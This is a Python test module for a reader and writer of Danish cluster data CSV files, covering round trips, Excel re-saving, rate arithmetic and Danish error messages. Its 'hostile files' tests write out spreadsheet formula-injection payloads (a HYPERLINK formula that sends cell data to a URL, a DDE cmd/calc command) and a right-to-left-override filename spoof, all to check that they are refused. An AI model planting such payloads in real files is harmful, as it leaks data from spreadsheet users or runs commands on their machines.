"""The cluster data file: written for Excel and a consultant's eye, read back exactly, refused with a Danish
message naming the line when it is not sound. Numbers are checked with pandas, fractions and the csv module."""

from __future__ import annotations

import csv
import datetime
import io
import itertools
import math
import string
from fractions import Fraction

import numpy as np
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from small_cluster_file import EXAMPLE, PRACTICES

from calculators.cluster_file.format import CLUSTER_ID, ClusterFile, Indicator, Practice, anonymous_labels
from calculators.cluster_file.read import read_cluster_file
from calculators.cluster_file.write import write_cluster_file
from calculators.csv_writer import BOM, starts_a_formula
from calculators.errors import InputError
from calculators.period import Period


def lines_of(text: str) -> list[str]:
    return text.removeprefix(BOM).split("\r\n")


def replace_line(text: str, number: int, new: str) -> str:
    lines = lines_of(text)
    lines[number - 1] = new
    return BOM + "\r\n".join(lines)


def line_number(text: str, starts_with: str) -> int:
    return next(n for n, line in enumerate(lines_of(text), start=1) if line.startswith(starts_with))


def expect_error(text: str, *fragments: str) -> str:
    with pytest.raises(InputError) as caught:
        read_cluster_file(text)
    message = str(caught.value)
    for fragment in fragments:
        assert fragment in message
    return message


# ------------------------------------------------------------------------------------------------ round trip


def test_round_trip():
    assert read_cluster_file(write_cluster_file(EXAMPLE)) == EXAMPLE


def test_opens_in_danish_excel():
    text = write_cluster_file(EXAMPLE)
    assert text.startswith(BOM) and text.endswith("\r\n")
    assert "\n" not in text.replace("\r\n", "")
    rows = list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))
    assert rows[0] == ["MidtKraft klyngedatafil", "version 2"]
    assert ["Første dag", "2024-01-01"] in rows and ["Sidste dag", "2025-12-31"] in rows
    assert ["Klynge", "Klynge Viborg; Nord"] in rows
    assert ["Data", "anonyme"] in rows
    assert ["Dato", "2026-11-30"] in rows
    assert rows[-1] == ["Slut på klyngedatafilen"]


def practice_table(text: str) -> pd.DataFrame:
    """The practice rows read by pandas from the text, independently of the reader."""
    lines = lines_of(text)
    start = lines.index("Praksis;Tilmeldte;video;konsultationer")
    end = lines.index("Slut på klyngedatafilen")
    return pd.read_csv(io.StringIO("\n".join(lines[start:end])), sep=";", dtype={"Praksis": str})


def test_practice_rows_hold_every_number_and_nothing_else():
    table = practice_table(write_cluster_file(EXAMPLE))
    assert list(table.columns) == ["Praksis", "Tilmeldte", "video", "konsultationer"]
    assert table["Praksis"].tolist() == [p.label for p in PRACTICES]
    assert table["Tilmeldte"].tolist() == [p.listed for p in PRACTICES]
    assert table["video"].tolist() == [p.counts[0] for p in PRACTICES]
    assert table["konsultationer"].tolist() == [p.counts[1] for p in PRACTICES]


def danish_tenths(count: int, listed: int) -> str:
    """count / listed per 1,000 in exact fractions, rounded half up to one decimal, with a decimal comma."""
    tenths = math.floor(Fraction(count * 1000, listed) * 10 + Fraction(1, 2))
    return f"{tenths // 10},{tenths % 10}"


def test_region_rate_written_as_count_over_list_size():
    rows = list(csv.reader(io.StringIO(write_cluster_file(EXAMPLE)[1:], newline=""), delimiter=";"))
    video = next(row for row in rows if row[:1] == ["video"])
    assert video[1:] == ["Videokonsultationer", "4436, 1003", "14021", danish_tenths(14021, 432187)]
    assert video[4] == "32,4"  # 14021 * 1000 / 432187 = 32.44…, by hand
    consultations = next(row for row in rows if row[:1] == ["konsultationer"])
    assert consultations[1:] == ["Konsultationer", "0101", "2904311", danish_tenths(2904311, 432187)]


def test_cluster_entry_is_shaped_like_the_reference_json():
    entry = read_cluster_file(write_cluster_file(EXAMPLE)).cluster_entry()
    table = practice_table(write_cluster_file(EXAMPLE))
    assert entry == {
        "id": CLUSTER_ID,
        "name": "Klynge Viborg; Nord",
        "listed": table["Tilmeldte"].tolist(),
        "counts": {"video": table["video"].tolist(), "konsultationer": table["konsultationer"].tolist()},
    }


def test_region_rate_of_the_read_file():
    data = read_cluster_file(write_cluster_file(EXAMPLE))
    rates = [data.region_rate(indicator) for indicator in data.indicators]
    np.testing.assert_allclose(rates, np.array([14021, 2904311]) / 432187 * 1000, rtol=1e-12)


def test_anonymous_labels_go_on_like_spreadsheet_columns():
    letters = string.ascii_uppercase
    expected = [*letters, *("".join(pair) for pair in itertools.product(letters, repeat=2))]
    assert anonymous_labels(len(expected)) == [f"Praksis {x}" for x in expected]


def test_open_file_keeps_names():
    data = ClusterFile(
        **{
            **EXAMPLE.__dict__,
            "open": True,
            "practices": tuple(Practice(f'Lægehuset "Å{i}"', p.listed, p.counts) for i, p in enumerate(PRACTICES)),
        }
    )
    text = write_cluster_file(data)
    assert "Data;åbne\r\n" in text
    assert read_cluster_file(text) == data


def test_writer_refuses_what_cannot_be_read_back():
    with pytest.raises(ValueError):
        write_cluster_file(ClusterFile(**{**EXAMPLE.__dict__, "cluster": "Klynge\nNord"}))
    with pytest.raises(ValueError):
        write_cluster_file(ClusterFile(**{**EXAMPLE.__dict__, "cluster": " Klynge Nord"}))


# ------------------------------------------------------------------------------ a file Excel has saved again


def test_reads_a_file_excel_saved_again():
    """Danish Excel pads rows with empty cells, drops leading zeros, rewrites dates and may drop the BOM."""
    text = write_cluster_file(EXAMPLE)
    width = 5
    resaved = []
    for line in lines_of(text):
        cells = line.split(";") if line else []
        resaved.append(";".join(cells + [""] * (width - len(cells))) if len(cells) < width else line)
    resaved_text = "\r\n".join(resaved).replace("Dato;2026-11-30", "Dato;30-11-2026").replace(";0101;", ";101;")
    assert read_cluster_file(resaved_text) == EXAMPLE
    assert read_cluster_file(text.replace("\r\n", "\n")) == EXAMPLE


# ------------------------------------------------------------------------------------- malformed files refused


def test_empty_file():
    expect_error("", "Klyngedatafilen er tom")
    expect_error(BOM + "\r\n \r\n", "Klyngedatafilen er tom")


def test_wrong_file():
    expect_error("klynge;tilmeldte;4436\r\nKlynge A;1000;3\r\n", "linje 1", "ikke en klyngedatafil")
    expect_error(write_cluster_file(EXAMPLE).replace("version 2", "version 4"), "linje 1", "version 4")
    comma = write_cluster_file(EXAMPLE).replace(";", ",")
    expect_error(comma, "linje 1", "komma i stedet for semikolon")


@pytest.mark.parametrize("cut", [0.2, 0.5, 0.8, 0.95])
def test_truncated_anywhere(cut):
    text = write_cluster_file(EXAMPLE)
    with pytest.raises(InputError):
        read_cluster_file(text[: int(len(text) * cut)])


def test_truncated_inside_the_last_number():
    text = write_cluster_file(EXAMPLE)
    cut = text[: text.index("\r\nSlut")][:-2]  # "…;12001" becomes "…;120"
    expect_error(cut, "slutter uden linjen »Slut på klyngedatafilen«", "afkortet")


def test_a_deleted_practice_is_noticed():
    text = write_cluster_file(EXAMPLE)
    number = line_number(text, "Praksis C;")
    lines = lines_of(text)
    del lines[number - 1]
    expect_error(BOM + "\r\n".join(lines), "har 4 praksis", "»Antal praksis« siger 5")


def test_non_whole_count_names_the_line():
    text = write_cluster_file(EXAMPLE)
    number = line_number(text, "Praksis B;")
    expect_error(
        replace_line(text, number, "Praksis B;7955;119,5;39699"),
        f"linje {number}",
        "»video«",
        "»119,5« er ikke et helt tal",
    )
    expect_error(replace_line(text, number, "Praksis B;-7955;119;39699"), f"linje {number}", "»Tilmeldte«")
    expect_error(replace_line(text, number, "Praksis B;0;119;39699"), f"linje {number}", "mindst 1")


def test_missing_headers_name_the_line():
    text = write_cluster_file(EXAMPLE)
    number = line_number(text, "Praksis;")
    expect_error(
        replace_line(text, number, "Praksis;Tilmeldte;konsultationer;video"),
        f"linje {number}",
        "overskriften til praksis",
        "Praksis;Tilmeldte;video;konsultationer",
    )
    number = line_number(text, "Indikator;")
    expect_error(replace_line(text, number, "video;x"), f"linje {number}", "overskriften til indikatorerne")


def test_hand_edited_figures_are_noticed():
    text = write_cluster_file(EXAMPLE)
    number = line_number(text, "video;")
    expect_error(text.replace(";14021;32,4", ";14021;42,4"), f"linje {number}", "passer ikke")
    expect_error(text.replace(";14021;32,4", ";1000;2,3"), "klyngens antal for »Videokonsultationer« er større")
    expect_error(text.replace("Praksis B;", "Praksis A;"), "»Praksis A« står to gange")
    expect_error(text.replace("Regionens praksis;56", "Regionens praksis;3"), "regionen har færre praksis")


def test_metadata_problems_name_the_line():
    text = write_cluster_file(EXAMPLE)
    expect_error(text.replace("Dato;2026-11-30", "Dato;30/11/2026"), "linje 6", "ikke en dato")
    expect_error(text.replace("Data;anonyme", "Data;hemmelige"), "linje 7", "»anonyme« eller »åbne«")
    expect_error(text.replace("Første dag;", "Fra;"), "linje 3", "»Fra« er ikke et felt")
    expect_error(text.replace("Sidste dag;2025-12-31\r\n", ""), "mangler feltet »Sidste dag«")
    expect_error(text.replace("Sidste dag;2025-12-31", "Sidste dag;2025-02-30"), "linje 4", "ikke en dato")
    expect_error(text.replace("Antal praksis;5", "Antal praksis;4"), "kun 4 praksis", "mindst 5")
    expect_error(text.replace('"Klynge Viborg; Nord"', '"Klynge Viborg; Nord'), "linje 5", "ikke lukket")


def test_the_period_is_dated():
    text = write_cluster_file(EXAMPLE)
    backwards = text.replace("Første dag;2024-01-01", "Første dag;2026-01-01")
    expect_error(backwards, "sidste dag (31. december 2025) ligger før dens første (1. januar 2026)")
    # Danish Excel saves a date again as 01-01-2024: the same day
    resaved = text.replace("Første dag;2024-01-01", "Første dag;01-01-2024")
    assert read_cluster_file(resaved).period == EXAMPLE.period


def test_a_version_1_file_asks_for_a_new_one():
    """Version 1 named its period in words ("de seneste to år"), so a practice could not match its own figures."""
    old = write_cluster_file(EXAMPLE).replace("version 2", "version 1")
    expect_error(old, "linje 1", "første udgave (»version 1«), som ikke har periodens første og sidste dag")


def test_fewer_than_five_practices_refused():
    small = ClusterFile(**{**EXAMPLE.__dict__, "practices": PRACTICES[:4]})
    with pytest.raises(InputError, match="kun 4 praksis"):
        write_cluster_file(small)


# ----------------------------------------------------------------------------------------- property tests

NAMES = (  # any name the reader accepts: no invisible characters, nothing a spreadsheet runs as a formula
    st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc", "Cf")), min_size=1, max_size=30)
    .map(str.strip)
    .filter(lambda name: name and not starts_a_formula(name))
)


@st.composite
def cluster_files(draw):
    n_indicators = draw(st.integers(1, 4))
    ids = draw(
        st.lists(
            st.from_regex(r"[a-z0-9][a-z0-9-]{0,9}", fullmatch=True),
            min_size=n_indicators,
            max_size=n_indicators,
            unique=True,
        )
    )
    n_practices = draw(st.integers(5, 40))
    labels = draw(st.lists(NAMES, min_size=n_practices, max_size=n_practices, unique=True))
    practices = tuple(
        Practice(label, draw(st.integers(1, 10**7)), tuple(draw(st.integers(0, 10**6)) for _ in ids))
        for label in labels
    )
    indicators = tuple(
        Indicator(
            id_,
            draw(NAMES),
            tuple(draw(st.lists(st.from_regex(r"\d{4}", fullmatch=True), min_size=1, max_size=3))),
            sum(p.counts[i] for p in practices) + draw(st.integers(0, 10**8)),
        )
        for i, id_ in enumerate(ids)
    )
    return ClusterFile(
        pack=draw(st.from_regex(r"[a-z0-9][a-z0-9-]{0,19}", fullmatch=True)),
        pack_name=draw(NAMES),
        period=draw(
            st.tuples(st.dates(datetime.date(2000, 1, 1)), st.integers(0, 3000)).map(
                lambda pair: Period(pair[0], pair[0] + datetime.timedelta(days=pair[1]))
            )
        ),
        cluster=draw(NAMES),
        date=draw(st.dates(datetime.date(2000, 1, 1), datetime.date(2099, 12, 31))),
        open=draw(st.booleans()),
        indicators=indicators,
        practices=practices,
        region_practices=n_practices + draw(st.integers(0, 1000)),
        region_listed=sum(p.listed for p in practices) + draw(st.integers(0, 10**8)),
    )


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(cluster_files())
def test_property_round_trip_and_numbers(data):
    text = write_cluster_file(data)
    assert read_cluster_file(text) == data
    rows = list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))
    start = rows.index(["Praksis", "Tilmeldte", *(i.id for i in data.indicators)])
    table = np.array([[int(cell) for cell in row[1:]] for row in rows[start + 1 : -1]])
    np.testing.assert_array_equal(table[:, 0], [p.listed for p in data.practices])
    np.testing.assert_array_equal(table[:, 1:], [p.counts for p in data.practices])
    assert [row[0] for row in rows[start + 1 : -1]] == [p.label for p in data.practices]
    for indicator in data.indicators:
        row = next(r for r in rows if r[:2] == [indicator.id, indicator.name])
        exact = Fraction(indicator.region_count * 1000, data.region_listed)
        assert abs(Fraction(row[4].replace(",", ".")) - exact) <= Fraction(1, 20)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(cluster_files(), st.data())
def test_property_cut_short_anywhere_is_refused(data, draw):
    text = write_cluster_file(data)
    end = text.rindex("Slut på klyngedatafilen")
    cut = draw.draw(st.integers(0, end + len("Slut på klyngedatafile") - 1))
    with pytest.raises(InputError):
        read_cluster_file(text[:cut])


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.sampled_from([*';"\r\n 0123456789aAÆ,.-', "Praksis", "video", "Klynge", "Data", "Slut"]), max_size=120
    ).map("".join)
)
def test_property_any_text_is_read_or_refused_in_danish(text):
    try:
        read_cluster_file("MidtKraft klyngedatafil;version 2\r\n" + text)
    except InputError as error:
        assert str(error).startswith("Klyngedatafilen")


# ------------------------------------------------------------------------------------------- hostile files


@pytest.mark.parametrize(
    ("label", "message"),
    [
        ('=HYPERLINK("http://127.0.0.2/?d="&B2;"Klik")', "begynder med »=«, som et regneark læser som en formel"),
        ("=cmd|' /C calc'!A0", "begynder med »=«"),
        ("+1+1", "begynder med »+«"),
        ("-2+3", "begynder med »-«"),
        ("@SUM(A1)", "begynder med »@«"),
        ("Praksis\u200bB", "usynligt tegn (U+200B)"),
        ("Praksis \u202eA gnp.exe", "usynligt tegn (U+202E)"),
        ("P" * 81, "er 81 tegn langt; et navn har højst 80 tegn"),
    ],
)
def test_hostile_practice_names_are_refused(label, message):
    text = write_cluster_file(EXAMPLE)
    number = line_number(text, "Praksis B;")
    hostile = text.replace("Praksis B;", f'"{label.replace(chr(34), chr(34) * 2)}";')
    expect_error(hostile, f"linje {number}", message)


def test_hostile_cluster_and_indicator_names_are_refused():
    text = write_cluster_file(EXAMPLE)
    expect_error(text.replace('"Klynge Viborg; Nord"', "=2+2"), "linje 5", "»Klynge« »=2+2« begynder med »=«")
    number = line_number(text, "video;")
    expect_error(
        text.replace(";Videokonsultationer;", ";@Video;"), f"linje {number}", "»Navn« »@Video« begynder med »@«"
    )


def test_a_file_of_far_more_practices_than_a_cluster_has_is_refused_at_once():
    text = write_cluster_file(EXAMPLE).replace("Antal praksis;5", "Antal praksis;65000")
    expect_error(text, "klyngen har 65000 praksis. En klynge har højst 500")


def test_the_largest_cluster_allowed_is_read():
    practices = tuple(Practice(f"Praksis {i}", 1000 + i, (1, 2)) for i in range(500))
    big = ClusterFile(
        **{
            **EXAMPLE.__dict__,
            "practices": practices,
            "region_practices": 500,
            "region_listed": sum(p.listed for p in practices),
        }
    )
    assert len(read_cluster_file(write_cluster_file(big)).practices) == 500
